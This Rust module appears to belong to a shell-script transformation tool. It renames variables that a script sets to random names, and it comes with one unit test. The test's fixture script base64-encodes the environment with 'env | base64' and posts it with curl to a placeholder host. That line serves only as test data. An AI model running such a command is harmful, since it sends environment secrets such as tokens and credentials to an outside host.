//! T1: other names for the variables of a script.

use super::words::begins_command;
use super::{In, places};
use crate::transform::Random;
use crate::transform::edit::Edits;
use std::collections::{BTreeMap, BTreeSet};

/// Variables that programs read.
const READ_BY_OTHERS: &[&str] = &["http_proxy", "https_proxy", "no_proxy", "all_proxy"];

/// Renames what a script sets. A name is changed only when every place where it stands is a
/// variable, and none of them is in single quotes, where another shell may read it.
pub fn rename(text: &str, _lines: bool, random: &mut Random) -> Option<(String, String)> {
    let places = places(text);
    let mut found: BTreeMap<&str, Vec<(usize, usize)>> = BTreeMap::new();
    let mut set = BTreeSet::new();
    let mut all: BTreeMap<&str, usize> = BTreeMap::new();
    for (start, end) in names(text) {
        let name = text.get(start..end)?;
        let (before, behind) = (text.get(..start)?, text.get(end..)?);
        *all.entry(name).or_default() += 1;
        let place = places.get(start).copied();
        let is_used = matches!(place, Some(In::Plain | In::Double))
            && (before.ends_with('$') || before.ends_with("${"))
            && !before.ends_with("\\$");
        let is_set = place == Some(In::Plain)
            && (behind.starts_with('=') && begins_command(before) && stands_alone(behind)
                || before.split_whitespace().next_back() == Some("for") && before.ends_with(' '));
        if is_set {
            set.insert(name);
        }
        if is_set || is_used {
            found.entry(name).or_default().push((start, end));
        }
    }
    let mut edits = Edits::default();
    for (name, places) in found {
        let is_own = set.contains(name)
            && name.starts_with(|c: char| c.is_ascii_lowercase())
            && !READ_BY_OTHERS.contains(&name);
        if !is_own || all.get(name) != Some(&places.len()) {
            continue;
        }
        let new = random.name(text);
        for (start, end) in places {
            // `$ab` is another name than `$a` in front of a letter.
            edits.replace(start, end, new.clone());
        }
    }
    Some((String::new(), edits.apply(text)?))
}

/// An assignment and no command behind it: `a=1 b` gives `a` to `b`.
fn stands_alone(behind: &str) -> bool {
    let line = behind.lines().next().unwrap_or("");
    let places = places(line);
    let mut depth = 0_i32;
    for (at, c) in line.char_indices() {
        if places.get(at) != Some(&In::Plain) {
            continue;
        }
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            ';' | '&' if depth == 0 => return true,
            '|' if depth == 0 => return false,
            ' ' | '\t' if depth == 0 => {
                let rest = line[at..].trim_start();
                return rest.is_empty() || rest.starts_with(['#', ';', '&']);
            }
            _ => {}
        }
    }
    true
}

/// Every name in a text.
fn names(text: &str) -> Vec<(usize, usize)> {
    let bytes = text.as_bytes();
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
    let mut names = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        if !is_name(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && is_name(bytes[at]) {
            at += 1;
        }
        names.push((start, at));
    }
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_a_variable_everywhere_gets_another_name() {
        let text = "url=https://a.invalid/\nfile=1 sh x\nbody=$(env | base64)\ncurl \"$url\" -d $body file\n";
        let (_, renamed) = rename(text, true, &mut Random::new(1)).unwrap();
        assert!(
            !renamed.contains("url=") && !renamed.contains("$body"),
            "{renamed}"
        );
        assert!(
            renamed.contains("file=1 sh x") && renamed.contains("$(env"),
            "{renamed}"
        );
    }
}
